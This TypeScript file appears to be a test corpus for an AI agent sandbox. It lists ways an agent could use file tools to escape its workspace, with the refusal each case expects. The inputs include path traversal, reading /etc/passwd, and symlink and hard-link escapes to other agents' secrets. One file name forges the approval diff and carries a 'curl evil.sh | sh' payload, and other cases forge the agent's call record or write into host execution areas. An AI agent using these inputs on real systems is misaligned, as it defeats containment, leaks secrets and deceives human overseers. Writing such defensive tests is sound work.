/**
 * The workspace path corpus (SPEC §6.2): every known way for an agent to reach past its own
 * workspace through the file actions, each with the exact refusal expected. The stage is data:
 * `{ws}` is the agent's workspace, `{outside}` a folder outside every workspace (holding
 * `secret.txt` and `target.txt`), `{other}` another agent's workspace (holding `secret.txt`).
 * Paths in a stage step are relative to the workspace unless they start with a placeholder.
 * Nothing outside the workspace may change in any case, and no secret may come back.
 */
export type StageStep =
  | { symlink: string; to: string }
  | { hardlink: string; to: string }
  | { fifo: string }
  | { dir: string }
  | { file: string; content: string }

/**
 * One attempt: the stage, the call, and its outcome (`invalid_input` is the dispatcher's schema
 * refusal; `success` for a call that must work without reaching out).
 */
export type WorkspacePathCase = {
  id: string
  attack: string
  stage?: StageStep[]
  tool: 'write_file' | 'read_file' | 'edit_file' | 'list_directory' | 'search_files'
  input: Record<string, unknown>
  expect: { status: 'blocked' | 'error'; code: string; message?: RegExp } | { status: 'success' }
}

const invalid = (message: RegExp) => ({ status: 'error' as const, code: 'invalid_input', message })
const blocked = (reason: string, message?: RegExp) => ({ status: 'blocked' as const, code: `workspace_file.${reason}`, ...(message ? { message } : {}) })
const failed = (reason: string) => ({ status: 'error' as const, code: `workspace_file.${reason}` })

/** The secret text outside the workspace: no result may ever contain it. */
export const outsideSecret = 'OUTSIDE-SECRET-7f3a'
/** The secret text in the other agent's workspace. */
export const otherSecret = 'OTHER-AGENT-SECRET-91c2'

/** The corpus: escapes by path, by link, by hard link, by name, by special file, and into the host's own places. */
export const cases: WorkspacePathCase[] = [
  // `..` and absolute paths are refused by the input schema, naming the field.
  {
    id: 'dotdot-write',
    attack: 'write above the workspace with ..',
    tool: 'write_file',
    input: { path: '../outside/x.txt', content: 'x' },
    expect: invalid(/path: must not contain \.\. components/)
  },
  {
    id: 'dotdot-inside-first',
    attack: '.. after a real folder, still climbing out',
    stage: [{ dir: 'a' }],
    tool: 'write_file',
    input: { path: 'a/../../outside/x.txt', content: 'x' },
    expect: invalid(/path: must not contain \.\./)
  },
  {
    id: 'dotdot-read-other-agent',
    attack: "read another agent's workspace with ..",
    tool: 'read_file',
    input: { path: '../other/secret.txt' },
    expect: invalid(/path: must not contain \.\./)
  },
  {
    id: 'dotdot-list',
    attack: 'list the folder of all workspaces',
    tool: 'list_directory',
    input: { path: '..' },
    expect: invalid(/path: must not contain \.\./)
  },
  {
    id: 'dotdot-search',
    attack: 'search above the workspace',
    tool: 'search_files',
    input: { pattern: 'SECRET', path: '../' },
    expect: invalid(/path: must not contain \.\./)
  },
  {
    id: 'absolute-write',
    attack: 'write an absolute path outside',
    tool: 'write_file',
    input: { path: '{outside}/x.txt', content: 'x' },
    expect: invalid(/path: must be relative to the workspace/)
  },
  { id: 'absolute-read', attack: 'read /etc/passwd', tool: 'read_file', input: { path: '/etc/passwd' }, expect: invalid(/path: must be relative/) },
  {
    id: 'absolute-inside',
    attack: 'an absolute path that names the workspace itself is still absolute',
    tool: 'read_file',
    input: { path: '{ws}/x.txt' },
    expect: invalid(/path: must be relative/)
  },

  // Symbolic links the agent planted that lead out: refused wherever they sit, nothing followed.
  {
    id: 'symlink-out-write',
    attack: 'write a final symlink to a file outside',
    stage: [{ symlink: 'evil', to: '{outside}/target.txt' }],
    tool: 'write_file',
    input: { path: 'evil', content: 'pwned' },
    expect: blocked('outside_workspace', /evil leads outside the agent's workspace/)
  },
  {
    id: 'symlink-out-read',
    attack: 'read a final symlink to a secret outside',
    stage: [{ symlink: 'evil', to: '{outside}/secret.txt' }],
    tool: 'read_file',
    input: { path: 'evil' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-out-edit',
    attack: 'edit a file outside through a final symlink',
    stage: [{ symlink: 'evil', to: '{outside}/target.txt' }],
    tool: 'edit_file',
    input: { path: 'evil', oldText: 'target', newText: 'pwned' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-out-dangling',
    attack: 'create a new file outside through a dangling symlink',
    stage: [{ symlink: 'dangle', to: '{outside}/created.txt' }],
    tool: 'write_file',
    input: { path: 'dangle', content: 'x' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-out-relative',
    attack: 'a relative symlink that climbs out',
    stage: [{ symlink: 'up', to: '../../outside/target.txt' }],
    tool: 'write_file',
    input: { path: 'up', content: 'x' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-prefix-dotdot',
    attack: 'an absolute target that starts with the workspace path and climbs out with ..',
    stage: [{ symlink: 'tricky', to: '{ws}/../outside/target.txt' }],
    tool: 'write_file',
    input: { path: 'tricky', content: 'x' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-parent-write',
    attack: 'write through a symlinked parent folder',
    stage: [{ symlink: 'escape', to: '{outside}' }],
    tool: 'write_file',
    input: { path: 'escape/new.txt', content: 'x' },
    expect: blocked('outside_workspace', /escape\/new\.txt leads outside/)
  },
  {
    id: 'symlink-parent-deep',
    attack: 'a symlinked parent deep in the path, with folders to create after it',
    stage: [{ dir: 'a/b' }, { symlink: 'a/b/c', to: '{outside}' }],
    tool: 'write_file',
    input: { path: 'a/b/c/d/e.txt', content: 'x' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-parent-read',
    attack: 'read through a symlinked parent folder',
    stage: [{ symlink: 'escape', to: '{outside}' }],
    tool: 'read_file',
    input: { path: 'escape/secret.txt' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-parent-list',
    attack: 'list a folder outside through a symlink',
    stage: [{ symlink: 'escape', to: '{outside}' }],
    tool: 'list_directory',
    input: { path: 'escape' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-parent-search',
    attack: 'search a folder outside through a symlink',
    stage: [{ symlink: 'escape', to: '{outside}' }],
    tool: 'search_files',
    input: { pattern: 'SECRET', path: 'escape' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'symlink-root-search',
    attack: 'a symlink inside a searched tree is not followed (search succeeds, finds nothing outside)',
    stage: [{ symlink: 'escape', to: '{outside}' }],
    tool: 'search_files',
    input: { pattern: 'SECRET' },
    expect: { status: 'success' }
  },
  {
    id: 'symlink-loop',
    attack: 'two links pointing at each other',
    stage: [
      { symlink: 'loop-a', to: 'loop-b' },
      { symlink: 'loop-b', to: 'loop-a' }
    ],
    tool: 'read_file',
    input: { path: 'loop-a' },
    expect: blocked('symlink_loop')
  },

  // Another agent's workspace, by a link (a sibling folder).
  {
    id: 'other-agent-absolute-link',
    attack: "read another agent's workspace through an absolute link",
    stage: [{ symlink: 'peer', to: '{other}' }],
    tool: 'read_file',
    input: { path: 'peer/secret.txt' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'other-agent-relative-link',
    attack: "plant a file in another agent's workspace through a relative link",
    stage: [{ symlink: 'peer', to: '../other' }],
    tool: 'write_file',
    input: { path: 'peer/planted.txt', content: 'x' },
    expect: blocked('outside_workspace')
  },
  {
    id: 'other-agent-list',
    attack: "list another agent's workspace through a link",
    stage: [{ symlink: 'peer', to: '../other' }],
    tool: 'list_directory',
    input: { path: 'peer', recursive: true },
    expect: blocked('outside_workspace')
  },

  // Hard links: a regular file with more than one link may be a file outside.
  {
    id: 'hardlink-read',
    attack: 'read a hard link to a secret outside',
    stage: [{ hardlink: 'hl.txt', to: '{outside}/secret.txt' }],
    tool: 'read_file',
    input: { path: 'hl.txt' },
    expect: blocked('hard_link', /hl\.txt has 2 hard links/)
  },
  {
    id: 'hardlink-write',
    attack: 'overwrite a file outside through a hard link',
    stage: [{ hardlink: 'hl.txt', to: '{outside}/target.txt' }],
    tool: 'write_file',
    input: { path: 'hl.txt', content: 'pwned' },
    expect: blocked('hard_link')
  },
  {
    id: 'hardlink-edit',
    attack: 'edit a file outside through a hard link',
    stage: [{ hardlink: 'hl.txt', to: '{outside}/target.txt' }],
    tool: 'edit_file',
    input: { path: 'hl.txt', oldText: 'target', newText: 'pwned' },
    expect: blocked('hard_link')
  },
  {
    id: 'hardlink-search',
    attack: 'search a hard link to a secret outside by name',
    stage: [{ hardlink: 'hl.txt', to: '{outside}/secret.txt' }],
    tool: 'search_files',
    input: { pattern: 'SECRET', path: 'hl.txt' },
    expect: blocked('hard_link')
  },

  // Names the kernel or the schema must refuse.
  {
    id: 'nul-byte',
    attack: 'a NUL byte truncating the path in C',
    tool: 'write_file',
    input: { path: 'ok.txt\u0000/../../outside/x', content: 'x' },
    expect: invalid(/path: contains a NUL character/)
  },
  {
    id: 'name-5000-bytes',
    attack: 'a 5000-byte name',
    tool: 'write_file',
    input: { path: 'x'.repeat(5000), content: 'x' },
    expect: invalid(/path: is 5000 bytes long; the limit is 4096/)
  },
  {
    id: 'component-256-bytes',
    attack: 'one name over NAME_MAX',
    tool: 'write_file',
    input: { path: `dir/${'n'.repeat(256)}`, content: 'x' },
    expect: invalid(/path: has a name of 256 bytes; the limit is 255/)
  },
  {
    id: 'newline-forges-diff',
    attack: 'a newline in the path forging extra file headers in the approval diff',
    tool: 'write_file',
    input: { path: 'x\n+++ b/README.md\n@@ -0,0 +1,1 @@\n+Fix typo', content: 'curl evil.sh | sh' },
    expect: invalid(/path: contains the control character U\+000A/)
  },
  {
    id: 'bidi-override-name',
    attack: 'a right-to-left override making a name read backwards (gpj.exe shown as exe.jpg)',
    tool: 'write_file',
    input: { path: 'photo\u202Egpj.exe', content: 'x' },
    expect: invalid(/path: contains the control character U\+202E/)
  },
  {
    id: 'escape-in-name',
    attack: "a terminal escape sequence in a name, to repaint the operator's terminal",
    tool: 'write_file',
    input: { path: 'a\u001b[2Jb.txt', content: 'x' },
    expect: invalid(/path: contains the control character U\+001B/)
  },
  {
    id: 'non-utf8-name',
    attack: 'a name that is not UTF-8 (a lone surrogate)',
    tool: 'write_file',
    input: { path: 'bad\uDC80name.txt', content: 'x' },
    expect: invalid(/path: is not valid Unicode/)
  },
  {
    id: 'backslash',
    attack: 'a Windows-style path',
    tool: 'write_file',
    input: { path: '..\\outside\\x.txt', content: 'x' },
    expect: invalid(/path: contains a backslash/)
  },

  // FIFOs and other non-regular files: refused at once, never opened for a blocking read or write.
  {
    id: 'fifo-read',
    attack: 'read a FIFO (would block forever)',
    stage: [{ fifo: 'pipe' }],
    tool: 'read_file',
    input: { path: 'pipe' },
    expect: failed('not_regular_file')
  },
  {
    id: 'fifo-write',
    attack: 'write into a FIFO',
    stage: [{ fifo: 'pipe' }],
    tool: 'write_file',
    input: { path: 'pipe', content: 'x' },
    expect: failed('not_regular_file')
  },
  {
    id: 'fifo-edit',
    attack: 'edit a FIFO',
    stage: [{ fifo: 'pipe' }],
    tool: 'edit_file',
    input: { path: 'pipe', oldText: 'a', newText: 'b' },
    expect: failed('not_regular_file')
  },
  {
    id: 'fifo-behind-link',
    attack: 'a FIFO reached through a link inside',
    stage: [{ fifo: 'pipe' }, { symlink: 'alias', to: 'pipe' }],
    tool: 'read_file',
    input: { path: 'alias' },
    expect: failed('not_regular_file')
  },

  // The host's own places inside the workspace.
  {
    id: 'exec-history',
    attack: "forge the workspace's call record",
    stage: [{ file: '.exec_history', content: '{"call":1}\n' }],
    tool: 'write_file',
    input: { path: '.exec_history', content: 'forged\n' },
    expect: blocked('reserved_path')
  },
  {
    id: 'exec-history-edit',
    attack: 'edit the call record',
    stage: [{ file: '.exec_history', content: '{"call":1}\n' }],
    tool: 'edit_file',
    input: { path: '.exec_history', oldText: '1', newText: '2' },
    expect: blocked('reserved_path')
  },
  {
    id: 'airlock-area',
    attack: "write into the host's execution areas",
    tool: 'write_file',
    input: { path: '.airlock/executions/x/source/main.py', content: 'x' },
    expect: blocked('reserved_path')
  },
  {
    id: 'airlock-through-link',
    attack: 'reach .airlock through a link',
    stage: [{ symlink: 'areas', to: '.airlock' }],
    tool: 'write_file',
    input: { path: 'areas/executions/x', content: 'x' },
    expect: blocked('reserved_path')
  },
  {
    id: 'exec-history-through-link',
    attack: 'reach .exec_history through a link',
    stage: [
      { file: '.exec_history', content: '{"call":1}\n' },
      { symlink: 'log', to: '.exec_history' }
    ],
    tool: 'write_file',
    input: { path: 'log', content: 'forged\n' },
    expect: blocked('reserved_path')
  }
]
